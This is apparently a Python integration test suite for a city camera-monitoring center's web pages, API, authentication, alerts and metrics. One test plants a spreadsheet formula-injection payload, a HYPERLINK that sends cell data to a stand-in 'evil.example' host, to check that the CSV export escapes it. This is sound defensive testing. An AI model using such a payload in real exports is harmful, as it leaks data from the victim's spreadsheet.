"""The center's pages and API over real HTTP (uvicorn on loopback), with data that came through Mosquitto."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import datetime
from zoneinfo import ZoneInfo

import httpx
import jsonschema
import pytest
from prometheus_client.parser import text_string_to_metric_families
from support import PASSWORD, Ward, health_message, promtool_check, stats_message, wait_until

from agent.publish.payloads import agent_payload, encode
from agent.sim.mosquitto import Mosquitto
from agent.sim.rtsp import free_port
from center.auth import hash_password
from center.config import parse_center_config
from center.service import CenterIngest
from center.web import WebServer, build_app

pytestmark = pytest.mark.integration
HANOI = ZoneInfo("Asia/Ho_Chi_Minh")


def json_bytes(payload: dict[str, object]) -> bytes:
    import json

    return json.dumps(payload).encode()


def iso_z(t: float) -> str:
    from agent.clock import rfc3339

    return rfc3339(t)


def login(client: httpx.Client, user: str, password: str) -> httpx.Response:
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    return client.post("/login", data={"user": user, "password": password, "csrf": csrf, "next": "/"})


def test_pages_in_both_languages_and_the_api(site: tuple[str, CenterIngest]) -> None:
    base, _ = site
    with httpx.Client(base_url=base, timeout=10) as anon:
        assert anon.get("/").status_code == 303  # pages need a login
        assert anon.get("/api/v1/cameras").status_code == 401
        assert login(anon, "op", "wrong-password").status_code == 401
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        assert login(c, "op", PASSWORD).status_code == 200
        fleet = c.get("/").text
        # the ward agent's own problem, and the camera's, in words (the codes stay in the API)
        assert "ubnd-phuong-1" in fleet and "hàng đợi gửi đầy: mất sự kiện" in fleet
        assert "outbox_overflow" not in fleet and "luồng bị treo" in fleet and "stalled" not in fleet
        assert "Mất tín hiệu: 1" in fleet and "Hoạt động: 1" in fleet and "Cầu Trường Tiền" in fleet
        assert "luồng bị treo" in c.get("/outages").text
        c.get("/lang/en")
        fleet_en = c.get("/").text
        assert "Offline: 1" in fleet_en and "Online: 1" in fleet_en
        outages = c.get("/outages").text
        assert "Ongoing (1)" in outages and "stream stalled" in outages
        down = c.get("/camera/w1/c1").text
        history = down.split("Problems history")[1].split("</table>")[0]
        assert "stalled" in history and "Ongoing" in history and "Offline" in history
        cam = c.get("/camera/w1/c2").text
        assert "/snapshot/det-00000001" in cam and "person" in cam
        assert c.get("/snapshot/det-00000001").content.startswith(b"\xff\xd8")
        assert "Add a maintenance window" not in cam  # viewers do not get the form
        report = c.get("/report?period=24h").text
        assert "Availability" in report
        csv = c.get("/report.csv?period=24h")
        assert csv.content.startswith("\ufeff".encode()) and "Cầu Trường Tiền" in csv.content.decode("utf-8-sig")
        cams = c.get("/api/v1/cameras").json()["cameras"]
        c1 = next(x for x in cams if x["camera"] == "c1")
        assert c1["state"] == "offline" and c1["problems"] == ["stalled"]
        assert abs(c1["since"] - (time.time() - 600)) < 30
        up = c.get("/api/v1/uptime?period=24h").json()
        assert up["city"]["offline_s"] == pytest.approx(600, abs=30)
        assert c.get("/api/v1/uptime?period=nonsense").status_code == 400
        outs = c.get("/api/v1/outages").json()["outages"]
        assert [o["ongoing"] for o in outs] == [True]
        (agent,) = c.get("/api/v1/agents").json()["agents"]
        assert agent["state"] == "online" and agent["problems"] == ["outbox_overflow"]
        events = c.get("/api/v1/events?camera=c2").json()["events"]
        assert [e["id"] for e in events] == ["det-00000001"]
        assert "/api/v1/uptime" in c.get("/api/v1/openapi.json").json()["paths"]
        # a maintenance form from a viewer, and one without the session's CSRF token
        assert (
            c.post(
                "/maintenance",
                data={"ward": "w1", "start": "2026-01-01T00:00", "end": "2026-01-01T01:00", "csrf": "forged"},
            ).status_code
            == 403
        )


def test_the_openapi_document_describes_every_api_answer_and_the_answers_are_what_it_says(
    site: tuple[str, CenterIngest],
) -> None:
    base, _ = site
    with httpx.Client(base_url=base, timeout=10, auth=("boss", PASSWORD)) as c:
        doc = c.get("/api/v1/openapi.json").json()
        paths = {p: ops["get"] for p, ops in doc["paths"].items() if "get" in ops}
        assert set(paths) == {
            f"/api/v1/{n}" for n in ("cameras", "uptime", "outages", "events", "agents", "status", "audit", "alerts")
        }
        writes = {p: set(ops) for p, ops in doc["paths"].items() if "get" not in ops}
        assert writes == {"/api/v1/alerts/{alert_id}/ack": {"post"}}
        ack = doc["paths"]["/api/v1/alerts/{alert_id}/ack"]["post"]
        assert {"200", "404", "409"} <= set(ack["responses"]) and "requestBody" in ack
        for path, op in paths.items():
            described = op["responses"]["200"]["content"]["application/json"]["schema"]
            assert "$ref" in described, f"{path}: its answer has no schema"
            answer = c.get(path, params={"camera": "c2"} if path.endswith("/events") else None)
            assert answer.status_code == 200, path
            checker = jsonschema.Draft202012Validator({**described, "components": doc["components"]})
            assert not [e.message for e in checker.iter_errors(answer.json())], path
        # An event is described as the contract's own event (its fields, its type as the discriminator).
        event_schema = json.dumps(doc["components"]["schemas"])
        assert '"detection_started"' in event_schema and '"from_since"' in event_schema


def test_admin_adds_maintenance_and_basic_auth_works_for_the_api(site: tuple[str, CenterIngest]) -> None:
    base, center = site
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        login(c, "boss", PASSWORD)
        page = c.get("/camera/w1/c1").text
        soon = time.time() + 3600
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
        r = c.post(
            "/maintenance",
            data={
                "ward": "w1",
                "camera": "c1",
                "start": datetime.fromtimestamp(soon, HANOI).strftime("%Y-%m-%dT%H:%M"),
                "end": datetime.fromtimestamp(soon + 7200, HANOI).strftime("%Y-%m-%dT%H:%M"),
                "note": "Thay nguồn",
                "csrf": csrf,
            },
        )
        assert r.status_code == 200 and "Thay nguồn" in r.text
    (m,) = center.store.maintenance(0, 4e9)
    assert m.end - m.start == 7200 and m.created_by == "boss"
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as viewer:
        login(viewer, "op", PASSWORD)
        page = viewer.get("/camera/w1/c1").text
        assert "Thay nguồn" in page and f'data-window="{m.id}"' not in page  # viewers see it, cannot delete
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
        assert viewer.post(f"/maintenance/{m.id}/delete", data={"csrf": csrf}).status_code == 403
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        login(c, "boss", PASSWORD)
        page = c.get("/camera/w1/c1").text
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
        assert c.post(f"/maintenance/{m.id}/delete", data={"csrf": "forged"}).status_code == 403
        r = c.post(f"/maintenance/{m.id}/delete", data={"csrf": csrf, "back": "/camera/w1/c1"})
        assert r.status_code == 200 and str(r.url).endswith("/camera/w1/c1") and "Thay nguồn" not in r.text
        assert c.post(f"/maintenance/{m.id}/delete", data={"csrf": csrf}).status_code == 404
    assert center.store.maintenance(0, 4e9) == []
    assert httpx.get(f"{base}/api/v1/cameras", auth=("op", PASSWORD)).status_code == 200
    for _ in range(5):
        httpx.get(f"{base}/api/v1/cameras", auth=("nobody", "x"))
    assert httpx.get(f"{base}/api/v1/cameras", auth=("nobody", "x")).status_code == 429  # rate-limited


def test_a_big_city_shows_healthy_cameras_as_a_count(
    site: tuple[str, CenterIngest], monkeypatch: pytest.MonkeyPatch
) -> None:
    import center.web.pages

    base, _ = site
    monkeypatch.setattr(center.web.pages, "ALL_TILES_UP_TO", 1)  # as if the city had more cameras than a page can show
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        login(c, "op", PASSWORD)
        c.get("/lang/en")
        page = c.get("/").text
        assert 'data-key="w1/c1"' in page and 'data-key="w1/c2"' not in page  # the offline one stays a tile
        assert 'href="/?ward=w1">1 camera · Online' in page  # one camera, not "1 cameras"
        ward = c.get("/?ward=w1").text
        assert 'data-key="w1/c1"' in ward and 'data-key="w1/c2"' in ward


def test_a_long_outage_history_is_cut_on_the_page_not_in_the_api(
    site: tuple[str, CenterIngest], monkeypatch: pytest.MonkeyPatch
) -> None:
    import center.web.pages as web_module
    from center.store import WriteBatch
    from center.timeline import Assertion

    base, service = site
    now = time.time()
    batch = WriteBatch.empty(now)
    batch.camera("w2", "c9", None, now)
    for k in range(3):  # three ended outages of an hour, two hours apart
        start = now - 86400 + k * 7200
        batch.assertion("w2", "c9", Assertion(start - 3600, start, "online"))
        batch.assertion("w2", "c9", Assertion(start, start + 3600, "offline", ("refused",)))
    service.store.write(batch)
    monkeypatch.setattr(web_module, "HISTORY_SHOWN", 2)
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        login(c, "op", PASSWORD)
        c.get("/lang/en")
        page = c.get("/outages?days=7").text
        assert "History (3)" in page and "Showing the 2 most recent of 3" in page
        assert page.count("refused") == 2
        outs = c.get("/api/v1/outages?days=7").json()["outages"]
        assert len([o for o in outs if not o["ongoing"]]) == 3


def test_a_login_survives_a_restart_of_the_pages_until_the_password_is_reset(
    site: tuple[str, CenterIngest], monkeypatch: pytest.MonkeyPatch
) -> None:
    import center.web.sessions as web_module

    base, service = site
    with httpx.Client(base_url=base, timeout=10) as c:
        assert login(c, "op", PASSWORD).status_code == 303
        cookies = dict(c.cookies)
    monkeypatch.setattr(web_module.Sessions, "RECHECK_S", 0.0)  # check the store on every request

    def restarted() -> tuple[WebServer, str]:
        config = parse_center_config({"web": {"listen": f"127.0.0.1:{free_port()}"}})
        web = WebServer(build_app(config, service.store, service), "127.0.0.1", config.web.port).start()
        return web, f"http://127.0.0.1:{config.web.port}"

    web, again = restarted()  # a new process would know nothing but the store
    try:
        with httpx.Client(base_url=again, timeout=10, cookies=cookies) as c:
            assert c.get("/").status_code == 200
            service.store.put_user("op", "viewer", hash_password("Mat-khau-moi-1"), time.time())  # reset
            assert c.get("/").status_code == 303  # to the login page
    finally:
        web.stop()
    stored = service.store._query("SELECT count(*) FROM sessions")[0][0]
    assert stored == 0


def test_an_unreachable_ward_is_one_ward_problem_not_many_camera_tiles(site: tuple[str, CenterIngest]) -> None:
    base, center = site
    ward = Ward(center.config.mqtt.port)
    now = time.time()

    def send(topic: str, payload: bytes) -> None:
        ward.client.publish(f"camwatch/w2/{topic}", payload, qos=1, retain=True).wait_for_publish(5)

    status = {"ward": "w2", "version": "1", "cameras": ["k1", "k2", "k3"], "started_at": now - 900}
    send("agent/status", encode({**agent_payload(state="online", now_wall=now - 900, **status), "seq": 1}))  # type: ignore[arg-type]
    for cam in ("k1", "k2", "k3"):
        send(f"{cam}/health", health_message(cam, cam, "online", now - 900, now - 60, ward="w2"))
    will = agent_payload(state="offline", now_wall=now - 900, reason="lost", **status)  # type: ignore[arg-type]
    send("agent/status", encode({**will, "seq": 1}))
    assert wait_until(lambda: center.store.agents().get("w2") and center.store.agents()["w2"].state == "offline", 10)
    ward.stop()
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        assert login(c, "op", PASSWORD).status_code == 200
        fleet = c.get("/").text
        assert 'data-ward-state="unreachable"' in fleet and "Mất liên lạc với phường từ" in fleet
        assert "Phường/xã mất liên lạc: 1" in fleet and "không phải ở camera" in fleet
        assert 'data-key="w2/k1"' not in fleet  # one ward problem: a count, not three tiles
        assert "3 camera" in fleet.replace("\n", " ") or "3 Camera" in fleet
        one = c.get("/?ward=w2").text
        assert 'data-key="w2/k1"' in one  # the ward's own page lists them
        c.get("/lang/en")
        assert "Ward unreachable since" in c.get("/").text
        cams = {x["camera"]: x for x in c.get("/api/v1/cameras").json()["cameras"]}
        assert cams["k1"]["state"] == "unknown" and cams["k1"]["ward_state"] == "unreachable"
        assert abs(cams["k1"]["since"] - (now - 60)) < 2  # unknown from its last word, not the will's time
        assert cams["c1"]["ward_state"] == "up"
        agents = {a["ward"]: a for a in c.get("/api/v1/agents").json()["agents"]}
        assert agents["w2"]["ward_state"] == "unreachable" and abs(agents["w2"]["since"] - (now - 60)) < 2
        assert agents["w1"]["ward_state"] == "up"


def test_a_chain_told_only_by_replayed_changes_gives_exact_seconds_through_the_api(
    site: tuple[str, CenterIngest],
) -> None:
    """A ward's uplink was cut; afterwards its outbox replays online -> degraded -> online: no heartbeat between."""
    from agent.health.state import Change
    from agent.publish.payloads import event_payload

    base, center = site
    ward = Ward(center.config.mqtt.port)
    now = time.time()
    t0 = now - 3005  # the agent started then; its camera was online from t0

    def send(topic: str, payload: bytes, retain: bool = False) -> None:
        ward.client.publish(f"camwatch/w3/{topic}", payload, qos=1, retain=retain).wait_for_publish(5)

    def change(
        frm: str, to: str, from_since: float, since: float, problems: tuple[str, ...], was: tuple[str, ...]
    ) -> bytes:
        c = Change("state_changed", 0, frm, to, problems=problems, from_since=0, from_problems=was)  # type: ignore[arg-type]
        p = event_payload(
            ward="w3", camera="k1", change=c, wall=since + 5, since_wall=since, from_since_wall=from_since
        )
        return encode({**p, "replayed": True})

    status = {"ward": "w3", "version": "1", "cameras": ["k1"], "started_at": t0}
    send("agent/status", encode({**agent_payload(state="online", now_wall=t0, **status), "seq": 1}), retain=True)  # type: ignore[arg-type]
    send("k1/health", health_message("k1", "k1", "online", t0, t0 + 600, ward="w3"), retain=True)
    cut = t0 + 610
    send("agent/stats", stats_message(cut, "w3"))
    will = agent_payload(state="offline", now_wall=t0, reason="lost", **status)  # type: ignore[arg-type]
    send("agent/status", encode({**will, "seq": 1}), retain=True)
    back = t0 + 3000  # the link is back: birth, health, then the outbox's changes
    send("agent/status", encode({**agent_payload(state="online", now_wall=back, **status), "seq": 2}), retain=True)  # type: ignore[arg-type]
    send("k1/health", health_message("k1", "k1", "online", t0 + 2100, back, ward="w3"), retain=True)
    send("k1/events", change("online", "degraded", t0, t0 + 1200, ("blurred",), ()))
    send("k1/events", change("degraded", "online", t0 + 1200, t0 + 2100, (), ("blurred",)))
    assert wait_until(lambda: center.ingest.events >= 4 and not center.ingest.pending, 10)
    ward.stop()
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        assert login(c, "op", PASSWORD).status_code == 200
        today = datetime.fromtimestamp(now, HANOI).date()
        days = f"start={today.fromordinal(today.toordinal() - 1)}&end={today}"  # a custom period: computed now
        up = c.get(f"/api/v1/uptime?period=custom&{days}").json()
        (k1,) = [x for x in up["cameras"] if x["camera"] == "k1"]
        begin, end = up["period"]["begin"], up["period"]["end"]
        seen_until = min(end, back + 90)  # the last health holds unknown_after_s past its end
        assert k1["degraded_s"] == pytest.approx(900, abs=0.01)  # 15 min degraded: not 90 s, and no unknown
        assert k1["online_s"] == pytest.approx(1200 + 900 + (seen_until - back), abs=0.01)
        assert k1["unknown_s"] == pytest.approx((t0 - begin) + (end - seen_until), abs=0.01)  # never in the cut


def test_a_ward_supplied_name_cannot_run_as_a_formula_in_the_csv(site: tuple[str, CenterIngest]) -> None:
    base, center = site
    ward = Ward(center.config.mqtt.port, client_id="ward-w1-names")
    before = center.ingest.messages
    now = time.time()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ward.send("c1/health", health_message("c1", evil, "online", now - 60, now))
    ward.send("c2/health", health_message("c2", "-2+3", "online", now - 7200, now))
    assert wait_until(lambda: center.ingest.messages >= before + 2 and not center.ingest.pending, 10)
    with httpx.Client(base_url=base) as c:
        assert login(c, "op", PASSWORD).status_code == 303
        today = time.strftime("%Y-%m-%d")  # a period the page keeps no computed copy of
        got = c.get(f"/report.csv?period=custom&start={today}&end={today}")
        rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    names = {r[1]: r[2] for r in rows[1:]}
    assert names["c1"] == "'" + evil
    assert names["c2"] == "'-2+3"
    assert rows[-1][2] == "Toàn thành phố"  # ordinary cells untouched
    ward.stop()


def test_metrics_and_health_need_no_login_and_name_no_camera(site: tuple[str, CenterIngest], broker: Mosquitto) -> None:
    base, center = site
    ward = Ward(broker.port, client_id="ward-w1-careless")
    ward.send("c1/health", b'{"schema": "camwatch.health/1", "state": "sleeping"}')  # refused by the contract
    assert wait_until(lambda: center.ingest.bad == 1, 10)
    ward.stop()
    with httpx.Client(base_url=base, timeout=10) as anon:
        page = anon.get("/metrics")
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/plain; version=")
        samples = {
            (s.name, tuple(sorted(s.labels.items()))): s.value
            for family in text_string_to_metric_families(page.text)
            for s in family.samples
        }
        assert samples[("camwatch_center_cameras", (("state", "offline"),))] == 1
        assert samples[("camwatch_center_cameras", (("state", "online"),))] == 1
        assert samples[("camwatch_center_wards", (("state", "up"),))] == 1
        assert samples[("camwatch_center_broker_connected", ())] == 1
        assert samples[("camwatch_center_events_total", ())] == 2
        assert samples[("camwatch_center_bad_messages_total", (("reason", "health: ward: missing"),))] == 1
        assert samples[("camwatch_center_messages_total", ())] >= 7
        assert not [name for name, _ in samples if not name.startswith(("camwatch_center_", "process_"))]
        assert promtool_check(page.text) == []  # Prometheus' own checker: the format and the naming rules
        assert promtool_check("# TYPE late_ms counter\nlate_ms 1\n")  # ... which does complain when it should
        for secret in ("c1", "c2", "w1", "Cầu Trường Tiền", "ubnd-phuong-1", "op", "boss"):
            assert f'"{secret}"' not in page.text, secret  # no camera, ward, host or user as a label value
        assert anon.get("/healthz").text == "ok\n" and anon.get("/readyz").text == "ok\n"
        broker.stop()
        assert wait_until(lambda: anon.get("/readyz").status_code == 503, 15)
        assert anon.get("/readyz").text.startswith("not ready: not connected to the broker 127.0.0.1:")
        assert anon.get("/healthz").status_code == 200  # alive: it takes messages again when the broker is back
        assert anon.get("/api/v1/status").status_code == 401  # the detailed figures still need a login


def test_an_operator_sees_open_alerts_and_takes_one_on_with_a_note(site: tuple[str, CenterIngest]) -> None:
    base, service = site
    now = time.time()
    alert = service.store.fire_alert(("camera_offline", "w1", "c1"), now - 900, "stalled", now - 300)
    service.store.fire_alert(("agent_gone", "w9", ""), now - 4000, "lost", now - 3000)
    service.store.resolve_alert(2, now - 60)
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as c:
        login(c, "op", PASSWORD)  # a viewer: operators take alerts on, whatever their role
        fleet = c.get("/").text
        assert 'href="/alerts"' in fleet and '<span class="badge offline">1</span>' in fleet  # one open
        page = c.get("/alerts").text
        assert "Camera mất tín hiệu" in page and "luồng bị treo" in page and "Đã tiếp nhận" in page
        assert "Mất máy giám sát của phường/xã" in page and "mất kết nối" in page  # ended, in the history
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
        assert (
            c.post(f"/alerts/{alert.id}/ack", data={"note": "đã cử anh Nam ra xem", "csrf": "forged"}).status_code
            == 403
        )
        done = c.post(f"/alerts/{alert.id}/ack", data={"note": "đã cử anh Nam ra xem", "csrf": csrf})
        assert done.status_code == 200 and "op · " in done.text and "đã cử anh Nam ra xem" in done.text
        assert c.post("/alerts/999/ack", data={"note": "", "csrf": csrf}).status_code == 404
        answer = c.get("/api/v1/alerts").json()["alerts"]
        assert [(a["kind"], a["camera"], a["resolved"] is None) for a in answer] == [
            ("camera_offline", "c1", True),
            ("agent_gone", None, False),
        ]
        assert answer[0]["acked_by"] == "op" and answer[0]["ack_note"] == "đã cử anh Nam ra xem"
        assert answer[1]["detail"] == ["lost"] and answer[1]["uptime"] is None
        assert "/api/v1/alerts" in c.get("/api/v1/openapi.json").json()["paths"]
        # by the API: a browser's session cookie alone changes nothing, the page's CSRF token must come with it
        other = service.store.fire_alert(("camera_degraded", "w1", "c2"), now - 4000, "blurred", now - 200)
        ack = f"/api/v1/alerts/{other.id}/ack"
        assert c.post(ack, json={"note": "cookie alone"}).status_code == 403
        taken = c.post(ack, json={"note": "đang xử lý"}, headers={"X-CSRF-Token": csrf})
        assert taken.status_code == 200 and (taken.json()["acked_by"], taken.json()["ack_note"]) == ("op", "đang xử lý")
    with httpx.Client(base_url=base, timeout=10, auth=("boss", PASSWORD)) as api:  # no cookie: no CSRF token needed
        again = api.post(ack, json={"note": "me too"})
        assert again.status_code == 409 and "op" in again.json()["detail"]
        assert api.post("/api/v1/alerts/999/ack", json={}).status_code == 404
        assert api.post(ack, json={"note": "x" * 1001}).status_code == 422
        assert api.post(ack, json={"note": "", "by": "someone"}).status_code == 422
        assert api.get("/api/v1/alerts").json()["alerts"][0]["ack_note"] == "đang xử lý"
        # a day's uptime below its target: the day's figure, in words on the page and as numbers in the API
        service.store.fire_alert(
            ("camera_uptime_low", "w1", "c2"), now - 86400, "day=2026-12-02,uptime=91.67,target=95", now
        )
        (low, *_) = api.get("/api/v1/alerts").json()["alerts"]
        assert (low["kind"], low["detail"], low["uptime"]) == (
            "camera_uptime_low",
            [],
            {"day": "2026-12-02", "percent": 91.67, "target": 95.0},
        )
    scraped = httpx.get(f"{base}/metrics").text
    assert 'camwatch_center_alerts_open{kind="camera_offline"} 1.0' in scraped
    assert 'camwatch_center_alerts_open{kind="agent_gone"} 0.0' in scraped
    with httpx.Client(base_url=base, timeout=10, follow_redirects=True) as boss:
        login(boss, "boss", PASSWORD)
        assert "tiếp nhận cảnh báo" in boss.get("/audit").text
        page = boss.get("/alerts").text
        assert "Thời gian hoạt động dưới mức yêu cầu" in page
        assert "hoạt động 91.7 % ngày 2026-12-02 (yêu cầu 95 %)" in page
